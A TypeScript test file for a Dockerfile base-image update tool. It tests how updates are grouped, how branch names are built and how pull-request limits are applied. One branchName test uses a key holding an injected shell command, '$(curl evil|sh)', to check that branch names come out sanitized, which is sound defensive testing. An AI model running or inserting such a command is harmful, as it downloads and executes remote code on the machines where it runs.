import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { defaultRepositoryConfig, RepositoryConfig } from "../../../src/core/config/repository-config.ts";
import type { Decision } from "../../../src/core/policy/decision.ts";
import type { Step } from "../../../src/core/tag/step.ts";
import { baseImageLines } from "../../../src/core/dockerfile/base-image-lines.ts";
import { branchName } from "../../../src/core/update/branch-name.ts";
import { limitGroups } from "../../../src/core/update/limit-groups.ts";
import { planUpdates } from "../../../src/core/update/plan-updates.ts";
import { decision, digest, skip } from "./sample-decision.ts";

function taken(at: string, reference: string, step: Step, tag = "99"): Decision {
  return decision(at, reference, { step, to: { tag, digest: digest("a") } });
}

const lines = [
  taken("web/Dockerfile:1", "node:20.11.0", "patch"),
  taken("api/Dockerfile:7", "node:20.11.0", "patch"),
  taken("api/Dockerfile:9", "node:18.1.0", "minor"),
  taken("api/Dockerfile:1", "node:20.11.0", "major"),
  taken("api/Dockerfile:3", "redis:7.2.3", "major"),
  taken("api/Dockerfile:5", `ghcr.io/acme/base:1@${digest("b")}`, "digest"),
  taken("api/Dockerfile:2", "nginx:1.25", "pin"),
  taken("web/Dockerfile:2", "alpine", "pin"),
  decision("web/Dockerfile:3", "alpine:3", { outcome: "skip", reasons: [skip("up-to-date", "…")] }),
];

function plan(group: RepositoryConfig["group"], decisions = lines): Record<string, string[]> {
  const groups = planUpdates(decisions, { ...defaultRepositoryConfig, group });
  return Object.fromEntries(
    groups.map(({ key, decisions: members }) => [key, members.map(({ file, line }) => `${file}:${line.line}`)]),
  );
}

const majors = {
  "major docker.io/library/node": ["api/Dockerfile:1"],
  "major docker.io/library/redis": ["api/Dockerfile:3"],
};
const pins = { pin: ["api/Dockerfile:2", "web/Dockerfile:2"] };

describe("planUpdates", () => {
  test.for<[RepositoryConfig["group"], Record<string, string[]>]>([
    [
      "image",
      {
        "image docker.io/library/node": ["api/Dockerfile:7", "api/Dockerfile:9", "web/Dockerfile:1"],
        digest: ["api/Dockerfile:5"],
        ...pins,
        ...majors,
      },
    ],
    [
      "file",
      {
        "file api/Dockerfile": ["api/Dockerfile:7", "api/Dockerfile:9"],
        "file web/Dockerfile": ["web/Dockerfile:1"],
        digest: ["api/Dockerfile:5"],
        ...pins,
        ...majors,
      },
    ],
    [
      "step",
      {
        "step patch": ["api/Dockerfile:7", "web/Dockerfile:1"],
        digest: ["api/Dockerfile:5"],
        ...pins,
        "step minor": ["api/Dockerfile:9"],
        ...majors,
      },
    ],
    [
      "all",
      {
        all: ["api/Dockerfile:7", "api/Dockerfile:9", "web/Dockerfile:1"],
        digest: ["api/Dockerfile:5"],
        ...pins,
        ...majors,
      },
    ],
  ])("by %s: pins together, digest refreshes together, majors alone, the most valuable first", ([group, groups]) => {
    expect(plan(group)).toEqual(groups);
    expect(Object.keys(plan(group))).toEqual(Object.keys(groups));
  });

  test("an image on one tag moves together in all files, unless grouped by file", () => {
    for (const group of ["image", "step", "all"] as const) {
      const homes = Object.values(plan(group)).filter((members) => members.includes("web/Dockerfile:1"));
      expect(homes).toHaveLength(1);
      expect(homes[0]).toContain("api/Dockerfile:7");
    }
  });

  test("images that share an ARG go together, also where one of them is a major", () => {
    const text = "ARG V=1.2.3\nARG HUB=docker.io\nFROM $HUB/a:$V\nFROM $HUB/b:$V-slim\nFROM $HUB/c:1\nFROM d:1";
    const [a, b, c, d] = baseImageLines({ path: "Dockerfile", text }).map((line, index): Decision => ({
      ...taken(`Dockerfile:${line.line}`, "x", index === 1 ? "major" : "patch"),
      line,
      to: { tag: ["2.0.0", "2.0.0-slim", "2", "2"][index] ?? null, digest: null },
    }));
    const decisions = [a, b, c, d].flatMap((each) => each ?? []);
    expect(plan("image", decisions)).toEqual({
      "image docker.io/library/a, major docker.io/library/b": ["Dockerfile:3", "Dockerfile:4"],
      "image docker.io/library/c": ["Dockerfile:5"],
      "image docker.io/library/d": ["Dockerfile:6"],
    });
  });

  test("rules give groups of their own, with a name, another kind or a schedule", () => {
    const config = RepositoryConfig.parse({
      group: "all",
      rules: [
        { match: { image: "ghcr.io/acme/**" }, group: "ours" },
        { match: { path: "web/**" }, schedule: "on saturday, sunday" },
        { match: { image: "node" }, group: "image" },
      ],
    });
    const groups = planUpdates(lines, config);
    expect(Object.fromEntries(groups.map(({ key, decisions }) => [key, decisions.length]))).toEqual({
      "digest ours": 1,
      "image docker.io/library/node": 2,
      "image docker.io/library/node at on saturday; sunday": 1,
      pin: 1,
      "pin at on saturday; sunday": 1,
      "major docker.io/library/node": 1,
      "major docker.io/library/redis": 1,
    });
  });

  test("a group of the repository's own never has the name of another", () => {
    const patch = [taken("Dockerfile:1", "node:20.11.0", "patch")];
    const keys = ["pin", "digest", "named", "major"].map((name) => {
      const config = { ...defaultRepositoryConfig, rules: [{ match: { image: "*" }, group: name }] };
      return planUpdates(patch, config)[0]?.key;
    });
    expect(keys).toEqual(["named pin", "named digest", "named named", "named major"]);
  });

  test("what leaves a release line that has ended comes first, and a rebuild or a pin within it does not", () => {
    const ended = [{ rule: "release-line-ended", outcome: "skip", sentence: "Node.js 18 has ended." }] as const;
    const major = { ...taken("Dockerfile:1", "node:18.1.0", "major"), reasons: ended };
    const pin = { ...taken("Dockerfile:2", "debian:11", "pin", "11"), reasons: ended };
    const patch = taken("Dockerfile:3", "redis:7.2.3", "patch");
    const keys = planUpdates([patch, pin, major], defaultRepositoryConfig).map(({ key }) => key);
    expect(keys).toEqual(["major docker.io/library/node", "image docker.io/library/redis", "pin"]);
  });

  test("does not depend on the order of the decisions", () => {
    const expected = planUpdates(lines, { ...defaultRepositoryConfig, group: "image" });
    fc.assert(
      fc.property(fc.shuffledSubarray(lines, { minLength: lines.length }), (shuffled) => {
        expect(planUpdates(shuffled, { ...defaultRepositoryConfig, group: "image" })).toEqual(expected);
      }),
    );
  });

  test("proposes nothing where nothing is taken", () => {
    expect(planUpdates(lines.slice(-1), { ...defaultRepositoryConfig, group: "image" })).toEqual([]);
  });
});

describe("branchName", () => {
  test.for([
    ["image docker.io/library/node", /^plinth\/image-node-[0-9a-f]{8}$/],
    ["major docker.io/acme/base", /^plinth\/major-acme-base-[0-9a-f]{8}$/],
    ["image ghcr.io/acme/base", /^plinth\/image-ghcr-io-acme-base-[0-9a-f]{8}$/],
    ["pin", /^plinth\/pin-[0-9a-f]{8}$/],
    ["file $(curl evil|sh)/Dockerfile", /^plinth\/file-curl-evil-sh-dockerfile-[0-9a-f]{8}$/],
  ] as const)("%s has the branch %s", ([key, branch]) => {
    expect(branchName(key)).toMatch(branch);
  });

  test("has a closed alphabet and a bounded length, whatever the key, and tells keys apart", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (key, other) => {
        const branch = branchName(key);
        expect(branch).toMatch(/^plinth\/[a-z0-9]+(?:-[a-z0-9]+)*$/);
        expect(branch.length).toBeLessThanOrEqual(100);
        expect(branch === branchName(other)).toBe(key === other);
      }),
    );
  });
});

describe("limitGroups", () => {
  const groups = planUpdates(lines, defaultRepositoryConfig);
  const now = new Date("2026-03-01T12:00:00Z");
  const nothing = { openPullRequests: 100, createdPerHour: 100, open: 0, created: [], now };
  const minutesAgo = (minutes: number): Date => new Date(now.getTime() - minutes * 60_000);

  test("the most valuable come first, and the others wait for a free place with a reason", () => {
    const heldBack = limitGroups(groups, { ...nothing, openPullRequests: 2 });
    expect(heldBack).toEqual(
      groups.slice(2).map((group) => ({
        group,
        reason: "open-pull-request-limit",
        sentence: expect.stringContaining("At most 2 "),
        until: null,
      })),
    );
  });

  test("those that are open take places", () => {
    expect(limitGroups(groups, { ...nothing, openPullRequests: 3, open: 2 })).toHaveLength(groups.length - 1);
    expect(limitGroups(groups, { ...nothing, openPullRequests: 3, open: 7 })).toHaveLength(groups.length);
  });

  test("what is over the hour's places waits until the first is an hour old", () => {
    const created = [minutesAgo(61), minutesAgo(50), minutesAgo(10)];
    const heldBack = limitGroups(groups, { ...nothing, createdPerHour: 3, created });
    expect(heldBack.map(({ group }) => group)).toEqual(groups.slice(1));
    expect(heldBack[0]).toMatchObject({ reason: "created-per-hour-limit", until: new Date("2026-03-01T12:10:00Z") });
  });

  test.for([
    [1, "2026-03-01T12:50:00.000Z"],
    [2, "2026-03-01T12:30:00.000Z"],
    [3, "2026-03-01T12:10:00.000Z"],
  ] as const)("after three within the hour, %i an hour leave a place again at %s", ([createdPerHour, until]) => {
    const created = [minutesAgo(10), minutesAgo(50), minutesAgo(30)];
    const [first] = limitGroups(groups, { ...nothing, createdPerHour, created });
    expect(first?.until?.toISOString()).toBe(until);
  });

  test("nothing is dropped, and nothing opened past a limit, whatever the limits", () => {
    const counts = { openPullRequests: fc.nat(9), createdPerHour: fc.integer({ min: 1, max: 9 }), open: fc.nat(9) };
    fc.assert(
      fc.property(fc.record(counts), fc.array(fc.nat(120)), (limits, ages) => {
        const created = ages.map(minutesAgo);
        const heldBack = limitGroups(groups, { ...limits, created, now });
        const opened = groups.length - heldBack.length;
        const inTheHour = ages.filter((age) => age < 60).length;
        expect(heldBack.map(({ group }) => group)).toEqual(groups.slice(opened));
        expect(opened).toBeLessThanOrEqual(Math.max(0, limits.openPullRequests - limits.open));
        expect(opened).toBeLessThanOrEqual(Math.max(0, limits.createdPerHour - inTheHour));
        for (const { until } of heldBack) expect(until === null || until > now).toBe(true);
      }),
    );
  });
});
